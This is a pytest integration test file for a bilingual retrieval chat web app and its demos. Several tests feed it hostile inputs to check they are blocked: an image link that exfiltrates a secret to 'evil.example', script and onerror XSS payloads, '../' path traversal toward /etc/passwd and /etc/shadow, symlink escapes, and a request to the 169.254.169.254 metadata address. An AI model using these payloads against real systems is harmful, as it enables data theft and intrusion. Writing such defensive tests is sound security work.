"""The web app's logic without a browser: rendering, chat turns, upload checks, the library
operations, the three demos and the evaluation view. Real parts throughout: the indexed corpus in
a real Chroma with the USE embedder, the packaged MiniLM encoder, an OpenAI-compatible server on
loopback that returns real PNGs, and SmolLM2 through llama.cpp when llama-cpp-python is installed.
"""

from __future__ import annotations

import importlib.util
import io
import json
import time
import zipfile
from pathlib import Path

import pytest
from ui_support import fake_openai_server, free_port, indexed_data_dir

from assistant.api import Assistant
from assistant.components import Components
from assistant.demos import bert, dalle, gpt
from assistant.errors import (
    BackendError,
    DocumentError,
    ModelUnavailableError,
    UsageError,
)
from assistant.settings import Settings
from index.passage import Passage
from ui import chat_view, library
from ui.chat_turns import new_session, run_turn
from ui.eval_run import run_evaluation
from ui.uploads import check_uploads, safe_upload_name, upload_and_index, uploads_dir

pytestmark = pytest.mark.integration
HAS_LLAMA = importlib.util.find_spec("llama_cpp") is not None


@pytest.fixture(autouse=True)
def _no_openai(monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)


@pytest.fixture(scope="module")
def components(tmp_path_factory):
    data_dir = indexed_data_dir(tmp_path_factory, "logic")
    return Components(Settings(data_dir=data_dir, llm="extractive"))


@pytest.fixture(scope="module")
def assistant(components):
    return Assistant(components=components)


@pytest.fixture
def writable(tmp_path_factory):
    """A private indexed data directory for tests that change it."""
    data_dir = indexed_data_dir(tmp_path_factory, "writable")
    settings = Settings(data_dir=data_dir, llm="extractive", max_upload_files=3, max_upload_mb=0.05)
    return Components(settings)


def passage(text: str, section: str = "2. 核心概念 > 2.1 AI大模型", score: float = 0.8) -> Passage:
    return Passage("id1", "doc.md", section, text, score, score, 0.0, {})


# --- rendering ----------------------------------------------------------------------------------


def test_inert_removes_images_html_and_scripts():
    text = chat_view.inert(
        "答案![x](http://evil.example/a.png?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script> a < b"
    )
    assert "evil.example" not in text and "<img" not in text and "<script" not in text
    assert "a &lt; b" in text


def test_sources_panel_escapes_and_expands():
    html = chat_view.sources_panel(
        [passage("<script>alert(1)</script>正文内容", section="3 > <b>x</b>")]
    )
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html
    assert html.count("<details") == 1 and "[1]" in html and "0.80" in html


def test_snippet_drops_heading_lines():
    assert chat_view.snippet("### 2.1 AI大模型\n\nAI大模型通常指的是……") == "AI大模型通常指的是……"
    assert len(chat_view.snippet("字" * 500)) == chat_view.SNIPPET_CHARS


# --- chat turns -----------------------------------------------------------------------------------


def test_turn_streams_an_answer_with_numbered_sources(assistant):
    views = list(run_turn(assistant, "AI大模型的挑战是什么？", new_session(), top_k=5))
    assert len(views) >= 2  # a pending view, then the finished turn
    assert views[0].session["messages"][-1]["content"].endswith("▌")
    final = views[-1]
    messages = final.session["messages"]
    assert [m["role"] for m in messages] == ["user", "assistant"]
    assert "计算资源" in messages[1]["content"] and "[1]" in messages[1]["content"]
    assert "来源 Sources" in final.sources_html and "<details" in final.sources_html
    assert " > " in final.sources_html or "附录" in final.sources_html
    assert "检索 retrieve" in final.details and "总计 total" in final.details
    assert final.session["turns"] == ["AI大模型的挑战是什么？"]


def test_follow_up_shows_the_rewritten_question(assistant):
    first = list(run_turn(assistant, "什么是计算机视觉？", new_session()))[-1]
    second = list(run_turn(assistant, "它有哪些应用场景？", first.session))[-1]
    answer = second.session["messages"][-1]["content"]
    assert "改写为 Rewritten as" in answer and "计算机视觉有哪些应用场景" in answer
    assert len(second.session["messages"]) == 4
    # The history keeps the question as answered (assistant.conversation), as the CLI does.
    assert second.session["turns"] == ["什么是计算机视觉？", "计算机视觉有哪些应用场景？"]


def test_abstention_is_shown_as_such(assistant):
    final = list(run_turn(assistant, "今天北京的天气怎么样？", new_session()))[-1]
    answer = final.session["messages"][-1]["content"]
    assert "Not in the documents" in answer
    assert "Closest passages" in final.sources_html


def test_invalid_question_is_a_notice_and_changes_nothing(assistant):
    session = {"messages": [{"role": "user", "content": "x"}], "turns": ["x"]}
    views = list(run_turn(assistant, "  ？？ ", session))
    assert len(views) == 1 and views[0].notice
    assert views[0].session == session and views[0].sources_html is None


def test_backend_error_shows_message_and_retrieved_passages(components, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{free_port()}/v1")  # nothing listens
    bot = Assistant(components=components)  # backends are built (and kept) per assistant
    started = time.monotonic()
    final = list(run_turn(bot, "深度学习的基本算法有哪些？", new_session(), llm="openai"))[-1]
    assert time.monotonic() - started < 30
    assert final.notice and "openai" in final.notice
    assert "Error" in final.session["messages"][-1]["content"]
    assert "Retrieved passages" in final.sources_html and "<details" in final.sources_html
    assert final.session["turns"] == []  # a failed question is not follow-up history


def test_temperature_reaches_the_model_backend(components, monkeypatch):
    with fake_openai_server() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        assistant = Assistant(components=components)
        turn = run_turn(
            assistant, "深度学习的基本算法有哪些？", new_session(), llm="openai", temperature=0.9
        )
        final = list(turn)[-1]
    chats = [r for r in fake.requests if r["path"].endswith("/chat/completions")]
    assert chats and chats[-1]["temperature"] == 0.9
    assert "Echo:" in final.session["messages"][-1]["content"]


# --- uploads and the library -----------------------------------------------------------------------


def test_safe_upload_name():
    assert safe_upload_name("../../etc/passwd.md") == "passwd.md"
    assert safe_upload_name("C:\\Users\\x\\笔记.MD") == "笔记.md"
    assert safe_upload_name(".env") == "env"
    assert safe_upload_name("a\x00b|c?.txt") == "a_b_c_.txt"
    long = safe_upload_name("长" * 300 + ".pdf")
    assert long.endswith(".pdf") and len(long) <= 120


@pytest.fixture
def uploaded(tmp_path) -> Path:
    """A folder as Gradio keeps one upload (``<upload folder>/<hash>/``): files there count as
    uploaded by a client; ``uploaded.parent`` is the upload folder."""
    folder = tmp_path / "gradio-uploads" / "3f9a1c"
    folder.mkdir(parents=True)
    return folder


def test_only_files_a_client_uploaded_are_taken_never_server_paths(uploaded, writable, tmp_path):
    """Any client can send the upload endpoint a path: a file elsewhere on the server (one that
    exists and one that does not), a folder, a link out of the upload folder and ``../`` tricks
    are all refused in one sentence that does not say which exist; nothing is copied or indexed."""
    secret = tmp_path / "secret.md"
    secret.write_text("# 机密\n\n口令 CANARY-UPLOAD-3317。", encoding="utf-8")
    (uploaded / "link.md").symlink_to(secret)
    probes = [
        secret,
        tmp_path / "missing.md",
        Path(writable.settings.corpus_dir) / "ai_large_models_survey.md",
        uploaded,
        uploaded / "link.md",
        uploaded / ".." / ".." / "secret.md",
        Path("/etc/hostname.md"),
    ]
    rejected = []
    for batch in (probes[:3], probes[3:6], probes[6:]):  # the test settings allow 3 a time
        result = upload_and_index(writable, batch, upload_root=uploaded.parent)
        assert result.indexed == [] and len(result.rejected) == len(batch)
        rejected += result.rejected
    assert all("is not a file uploaded to this app" in m for m in rejected)
    assert all(str(tmp_path) not in m and "\n" not in m for m in rejected)
    assert not uploads_dir(writable.settings).exists() or not any(
        uploads_dir(writable.settings).iterdir()
    )
    assert "secret.md" not in library.document_names(writable)


def test_upload_checks_refuse_before_parsing(uploaded, writable):
    settings = writable.settings
    good = uploaded / "notes.md"
    good.write_text("# 笔记\n\n量子退火编译器用于组合优化。", encoding="utf-8")
    with pytest.raises(UsageError, match="at most 3"):
        check_uploads([good] * 4, settings, upload_root=uploaded.parent)
    with pytest.raises(UsageError, match="No file"):
        check_uploads([], settings, upload_root=uploaded.parent)
    png = uploaded / "shot.md"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100)
    exe = uploaded / "tool.exe"
    exe.write_bytes(b"MZ" + b"\x00" * 10)
    big = uploaded / "big.txt"
    big.write_text("大" * 40_000, encoding="utf-8")  # 120 KB > 0.05 MB
    fake_pdf = uploaded / "paper.pdf"
    fake_pdf.write_text("not a pdf at all", encoding="utf-8")
    corpus_clash = uploaded / "ai_large_models_survey.md"
    corpus_clash.write_text("# x\n\n冒名顶替的文档。", encoding="utf-8")
    check = check_uploads([good, png, exe], settings, upload_root=uploaded.parent)
    assert [name for _, name in check.accepted] == ["notes.md"]
    assert any("PNG" in m for m in check.rejected) and any(
        "not a supported" in m for m in check.rejected
    )
    check = check_uploads(
        [big, fake_pdf, corpus_clash],
        settings,
        upload_root=uploaded.parent,
        indexed_elsewhere={"ai_large_models_survey.md"},
    )
    assert check.accepted == []
    assert any("upload limit" in m for m in check.rejected)
    assert any("not a PDF" in m for m in check.rejected)
    assert any("already indexed from the corpus" in m for m in check.rejected)
    assert all("\n" not in m and "Traceback" not in m for m in check.rejected)


def test_upload_index_view_and_delete(uploaded, writable):
    doc = uploaded / "量子笔记.md"
    doc.write_text(
        "# 笔记\n\n## 量子退火\n\n### 编译器\n\n青蛙量子编译器ZX9把组合优化问题编译成伊辛模型。它由虚构实验室开发。",
        encoding="utf-8",
    )
    faq = uploaded / "faq.csv"
    faq.write_text("问题,答案\nZX9是什么？,一个虚构的量子编译器。\n", encoding="utf-8")
    steps = []
    result = upload_and_index(
        writable,
        [doc, faq],
        progress=lambda f, d: steps.append((f, d)),
        upload_root=uploaded.parent,
    )
    assert sorted(result.indexed) == ["faq.csv", "量子笔记.md"] and not result.rejected
    assert steps and any("Indexing" in d for _, d in steps)
    stored = uploads_dir(writable.settings) / "量子笔记.md"
    assert stored.is_file()
    rows = {row[0]: row for row in library.document_rows(writable)}
    assert rows["量子笔记.md"][2] >= 1 and rows["量子笔记.md"][3] == "上传 upload"
    assert rows["ai_large_models_survey.md"][3] == "语料 corpus"
    chunks = library.document_chunks(writable, "量子笔记.md")
    assert any(c.section == "量子退火 > 编译器" for c in chunks)
    assert "量子退火 &gt; 编译器" in chat_view.chunk_list(chunks, title="片段")

    bot = Assistant(components=writable)
    found = library.retrieve_passages(bot, "青蛙量子编译器ZX9", 3)
    assert found[0].document == "量子笔记.md" and found[0].score >= 0.4
    answer = bot.ask("青蛙量子编译器ZX9把什么编译成伊辛模型？")
    assert not answer.abstained and answer.sources[0].document in ("量子笔记.md", "faq.csv")

    message = library.delete_document(writable, "量子笔记.md")
    assert "量子笔记.md" in message and not stored.exists()
    assert "量子笔记.md" not in library.document_names(writable)
    assert all(p.document != "量子笔记.md" for p in bot.retrieve("青蛙量子编译器ZX9", 5))
    with pytest.raises(UsageError):
        library.delete_document(writable, "量子笔记.md")
    # A corpus document leaves the index but its file stays in the source tree.
    corpus_file = Path(writable.settings.corpus_dir) / "ai_large_models_survey.md"
    library.delete_document(writable, "ai_large_models_survey.md")
    assert corpus_file.is_file()


def test_upload_of_a_broken_docx_is_refused_and_the_rest_indexed(uploaded, writable):
    broken = uploaded / "report.docx"
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("hello.txt", "not word")
    good = uploaded / "ok.txt"
    good.write_text("可解释性研究帮助理解大模型的决策。", encoding="utf-8")
    result = upload_and_index(writable, [broken, good], upload_root=uploaded.parent)
    assert result.indexed == ["ok.txt"]
    assert len(result.rejected) == 1 and "report.docx" in result.rejected[0]
    assert not (uploads_dir(writable.settings) / "report.docx").exists()


# --- GPT demo --------------------------------------------------------------------------------------


def test_generation_request_checks():
    with pytest.raises(UsageError):
        gpt.GenerationRequest(prompt="  ")
    with pytest.raises(UsageError):
        gpt.GenerationRequest(prompt="x", n=9)
    with pytest.raises(UsageError):
        gpt.GenerationRequest(prompt="x", temperature=3)
    assert gpt.parse_stop("\\n\\n\nEND\n\nEND") == ("\n\n", "END")


def test_gpt_demo_is_unavailable_without_model_or_key(tmp_path, monkeypatch):
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    # A configured GGUF that is not there: no local model, and no packaged one is looked for.
    settings = Settings(data_dir=tmp_path, llm_model_path=tmp_path / "missing.gguf")
    demo = gpt.GPTDemo(settings)
    assert demo.engines() == []
    with pytest.raises(UsageError, match="OPENAI_API_KEY"):
        demo.model("openai")


def test_gpt_demo_on_an_openai_compatible_endpoint(tmp_path, monkeypatch):
    with fake_openai_server() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        demo = gpt.GPTDemo(Settings(data_dir=tmp_path))
        assert "openai" in demo.engines()
        request = gpt.GenerationRequest(
            prompt="What are the benefits of exercise?",
            max_tokens=40,
            temperature=0.7,
            n=2,
            stop=("STOPWORD",),
        )
        snapshots = list(demo.stream("openai", request, "tiny-model"))
    assert len(snapshots) > 4  # streamed piece by piece
    final = snapshots[-1]
    assert len(final) == 2 and all(t.startswith("Echo:") and "STOPWORD" not in t for t in final)
    chats = [r for r in fake.requests if r["path"].endswith("/chat/completions")]
    assert len(chats) == 2 and chats[0]["model"] == "tiny-model" and chats[0]["temperature"] == 0.7
    assert chats[0]["stop"] == ["STOPWORD"]
    assert 40 in (chats[0].get("max_tokens"), chats[0].get("max_completion_tokens"))


def test_gpt_demo_reports_a_broken_endpoint(tmp_path, monkeypatch):
    with fake_openai_server() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        demo = gpt.GPTDemo(Settings(data_dir=tmp_path, max_retries=0))
        with pytest.raises(BackendError, match="text generation model"):
            list(demo.stream("openai", gpt.GenerationRequest(prompt="hi"), "broken"))


@pytest.mark.llm
@pytest.mark.skipif(
    not HAS_LLAMA, reason="llama-cpp-python is not installed (it compiles for ~10 min)"
)
def test_gpt_demo_on_the_local_smollm(tmp_path):
    from assistant.backends.packaged_models import packaged_smollm_path

    settings = Settings(
        data_dir=tmp_path, llm_model_path=packaged_smollm_path(), llm_context_tokens=1024
    )
    demo = gpt.GPTDemo(settings)
    assert "local" in demo.engines()
    request = gpt.GenerationRequest(
        prompt="List three benefits of exercise.", max_tokens=24, temperature=0.0, n=2
    )
    snapshots = list(demo.stream("local", request))
    assert len(snapshots) > 2 and len(snapshots[-1]) == 2
    assert all(t.strip() for t in snapshots[-1])


# --- BERT demo -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def zero_shot():
    return bert.ZeroShotClassifier()


@pytest.mark.parametrize(
    ("text", "topic"),
    [
        ("PyTorch and TensorFlow are popular open-source frameworks.", "工具和资源"),
        ("Object detection finds cars and people in street images.", "计算机视觉"),
        ("Backpropagation computes the gradients used to train neural networks.", "深度学习"),
        ("Machine translation converts English sentences into French.", "自然语言处理"),
        ("Data privacy and compute bottlenecks are the main challenges ahead.", "发展趋势与挑战"),
    ],
)
def test_zero_shot_classification_on_the_packaged_encoder(zero_shot, text, topic):
    result = zero_shot.classify(text)
    top = next(iter(result.labels))
    assert top.startswith(topic)
    assert abs(sum(result.labels.values()) - 1.0) < 1e-5 and len(result.labels) == 6
    assert result.unknown_share == 0.0 and result.piece_count == len(result.pieces)


def test_word_pieces_show_subwords_and_unknown_chinese(zero_shot):
    english = zero_shot.classify("Backpropagation")
    assert any(p.startswith("##") for p in english.pieces)
    chinese = zero_shot.classify("自然语言处理包括机器翻译和情感分析")
    assert chinese.unknown_share > 0.5 and "[UNK]" in chinese.pieces
    with pytest.raises(UsageError):
        zero_shot.classify("   ")


@pytest.fixture(scope="module")
def tiny_classifier(tmp_path_factory):
    """A real (tiny, randomly initialised) BertForSequenceClassification saved with safetensors,
    using the packaged encoder's WordPiece vocabulary, in a classifiers folder."""
    from transformers import AutoTokenizer, BertConfig, BertForSequenceClassification

    from index.embeddings import packaged_minilm_path

    folder = tmp_path_factory.mktemp("classifiers") / "survey-topics"
    tokenizer = AutoTokenizer.from_pretrained(str(packaged_minilm_path()), local_files_only=True)
    labels = [t.label for t in bert.SURVEY_TOPICS]
    config = BertConfig(
        vocab_size=tokenizer.vocab_size,
        hidden_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=64,
        num_labels=len(labels),
        id2label=dict(enumerate(labels)),
        label2id={label: i for i, label in enumerate(labels)},
    )
    BertForSequenceClassification(config).save_pretrained(str(folder), safe_serialization=True)
    tokenizer.save_pretrained(str(folder))
    return folder


def test_fine_tuned_checkpoint_folder(tiny_classifier, zero_shot):
    demo = bert.BERTDemo(zero_shot, classifiers_root=tiny_classifier.parent)
    assert bert.available_classifiers(tiny_classifier.parent) == ["survey-topics"]
    result = demo.classify("Transformers are used for text classification.", "survey-topics")
    assert set(result.labels) == {t.label for t in bert.SURVEY_TOPICS}
    assert abs(sum(result.labels.values()) - 1.0) < 1e-5
    assert result.pieces[:2] == ["transformers", "are"]


def test_fine_tuned_folder_checks(tmp_path, tiny_classifier):
    root = tmp_path / "classifiers"
    root.mkdir()
    pickled = root / "pickled"
    pickled.mkdir()
    (pickled / "config.json").write_text((tiny_classifier / "config.json").read_text())
    (pickled / "pytorch_model.bin").write_bytes(b"not loaded")
    with pytest.raises(ModelUnavailableError, match="safetensors"):
        bert.check_classifier_folder("pickled", root)
    with pytest.raises(ModelUnavailableError, match="no classifier named 'missing'"):
        bert.check_classifier_folder("missing", root)


@pytest.mark.parametrize(
    "probe",
    ["/etc", "/usr/lib/python3", "../../etc", "..", ".", "a/b", "~", "/", "C:\\Windows", "outside"],
)
def test_a_classifier_is_a_name_in_the_allow_list_never_a_server_path(
    tmp_path, tiny_classifier, probe
):
    """Whatever a client sends, nothing outside the classifiers folder is read or probed: an
    existing server folder and a missing one get the same kind of answer, without the path."""
    root = tmp_path / "classifiers"
    root.mkdir()
    (root / "outside").symlink_to(tiny_classifier, target_is_directory=True)  # a link out
    with pytest.raises((UsageError, ModelUnavailableError)) as excinfo:
        bert.check_classifier_folder(probe, root)
    message = str(excinfo.value)
    assert str(tmp_path) not in message and "/usr" not in message and "/etc" not in message
    assert "\n" not in message


# --- DALL-E demo -------------------------------------------------------------------------------------


def test_dalle_without_configuration_says_how_to_configure(tmp_path):
    assert not dalle.images_configured()
    with pytest.raises(ModelUnavailableError, match="OPENAI_API_KEY") as info:
        dalle.generate_images(Settings(data_dir=tmp_path), dalle.ImageRequest(prompt="cat"))
    assert "OPENAI_BASE_URL" in str(info.value)


def test_dalle_against_a_local_images_endpoint(tmp_path, monkeypatch):
    with fake_openai_server() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        request = dalle.ImageRequest(
            prompt="A pink and blue elephant playing soccer", model="dall-e-2", size="256x256", n=2
        )
        images = dalle.generate_images(Settings(data_dir=tmp_path), request)
    assert len(images) == 2
    assert all(image.size == (256, 256) and image.format == "PNG" for image in images)
    sent = fake.requests[-1]
    assert sent["response_format"] == "b64_json" and sent["n"] == 2 and sent["model"] == "dall-e-2"
    assert sent["prompt"].startswith("A pink")


def test_dalle_refuses_urls_errors_and_a_dead_endpoint(tmp_path, monkeypatch):
    settings = Settings(data_dir=tmp_path, max_retries=0, request_timeout_s=5)
    with fake_openai_server() as fake:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        with pytest.raises(BackendError, match="b64_json"):
            dalle.generate_images(settings, dalle.ImageRequest(prompt="x", model="url-only"))
        with pytest.raises(BackendError, match="HTTP 500"):
            dalle.generate_images(settings, dalle.ImageRequest(prompt="x", model="broken"))
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{free_port()}/v1")
    started = time.monotonic()
    with pytest.raises(BackendError, match="cannot be reached"):
        dalle.generate_images(settings, dalle.ImageRequest(prompt="x"))
    assert time.monotonic() - started < 15
    with pytest.raises(UsageError):
        dalle.ImageRequest(prompt="x", size="100x100")


def test_dalle_refuses_data_that_is_not_an_image():
    class Item:
        b64_json = "bm90IGFuIGltYWdl"  # "not an image"

    with pytest.raises(BackendError, match="not an image"):
        dalle.decode_image(Item())


# --- evaluation view ---------------------------------------------------------------------------------


def test_evaluation_view(tmp_path, assistant):
    pytest.importorskip("assistant.evaluation.runner")
    pairs = tmp_path / "faq.jsonl"
    rows = [
        {
            "id": "q1",
            "question": "AI大模型的挑战是什么？",
            "answer": "计算资源的瓶颈、数据的隐私保护",
            "keys": ["隐私"],
            "source": "常见问题",
        },
        {
            "id": "q2",
            "question": "深度学习的基本算法有哪些？",
            "answer": "前向传播、反向传播、梯度下降",
            "source": "深度学习基础",
        },
        {"id": "q3", "question": "如何做红烧肉？", "answer": "", "expect": "abstain"},
    ]
    pairs.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8")
    view = run_evaluation(assistant, pairs)
    table = dict(view.rows)
    assert table["题数 questions"] == "3"
    assert float(table["命中@1 hit@1"]) >= 0.5
    assert view.metrics_image.size[0] > 300 and view.latency_image.size[0] > 300
    buffer = io.BytesIO()
    view.metrics_image.save(buffer, format="PNG")
    assert buffer.tell() > 1000
    with pytest.raises(UsageError):
        run_evaluation(assistant, tmp_path / "missing.jsonl")


def test_evaluation_view_on_the_survey_faq_pairs(components, assistant):
    pytest.importorskip("assistant.evaluation.runner")
    from ui.eval_run import default_eval_file

    path = default_eval_file(components.settings)
    if not path.is_file():
        pytest.skip(f"{path.name} is not in the corpus yet")
    view = run_evaluation(assistant, path, limit=8)
    table = dict(view.rows)
    assert table["题数 questions"] == "8" and table["命中@3 hit@3"] != "–"


def test_document_errors_are_one_line(writable):
    with pytest.raises(UsageError):
        library.document_chunks(writable, "")
    with pytest.raises((UsageError, DocumentError)):
        library.document_chunks(writable, "nope.md")


def test_file_parameters_must_be_uploaded_files(tmp_path):
    from ui.file_params import files_allowed

    root = tmp_path / "gradio"
    (root / "abc").mkdir(parents=True)
    (root / "abc" / "doc.md").write_text("x")
    (root / "abc" / "out.md").symlink_to("/etc/hostname")

    def body(*files) -> bytes:
        return json.dumps({"data": [list(files), "问题", 5], "fn_index": 3}).encode()

    def file(path, **extra) -> dict:
        return {"path": str(path), "meta": {"_type": "gradio.FileData"}, **extra}

    assert files_allowed(body(file(root / "abc" / "doc.md")), root)
    page_url = f"http://127.0.0.1:7860/gradio_api/file={root / 'abc' / 'doc.md'}"
    assert files_allowed(body(file(root / "abc" / "doc.md", url=page_url)), root)  # the browser
    assert files_allowed(body(), root) and files_allowed(b"not json", root)
    for bad in (
        file("/etc/passwd"),
        file(root / "abc" / ".." / ".." / "secret.md"),
        file(root / "abc" / "out.md"),  # a link out of the upload folder
        file(root),
        file(root / "abc" / "doc.md", url="http://169.254.169.254/latest/meta-data/"),
        {"path": "/etc/passwd", "orig_name": "passwd"},  # no meta: still a file to Gradio
        {"nested": [{"deeper": file("/etc/shadow")}]},
        file(None),
    ):
        assert not files_allowed(body(file(root / "abc" / "doc.md"), bad), root), bad


def test_each_browser_session_has_an_upload_quota(tmp_path):
    from ui.uploads import SessionQuota

    files = []
    for n in range(3):
        path = tmp_path / f"f{n}.md"
        path.write_bytes(b"x" * 100_000)
        files.append(path)
    by_size = SessionQuota(max_files=10, max_mb=0.25)  # 262 KB
    by_size.take("alice", files[:2])  # 200 KB
    with pytest.raises(UsageError, match=r"limit of 0\.25 MB"):
        by_size.take("alice", files[2:])
    by_size.take("carol", files[:2])  # another session has its own count
    by_count = SessionQuota(max_files=2, max_mb=10)
    by_count.take("bob", files[:2])
    with pytest.raises(UsageError, match="limit of 2"):
        by_count.take("bob", files[2:])


def test_received_files_are_removed_and_nothing_outside(tmp_path):
    from ui.uploads import remove_received

    root = tmp_path / "gradio"
    received = root / "h1" / "doc.md"
    received.parent.mkdir(parents=True)
    received.write_text("x")
    outside = tmp_path / "keep.md"
    outside.write_text("keep")
    (root / "h2").mkdir()
    (root / "h2" / "link.md").symlink_to(outside)
    remove_received([received, outside, root / "h2" / "link.md", root / ".." / "keep.md"], root)
    assert not received.exists() and not received.parent.exists() and root.is_dir()
    assert outside.read_text() == "keep"
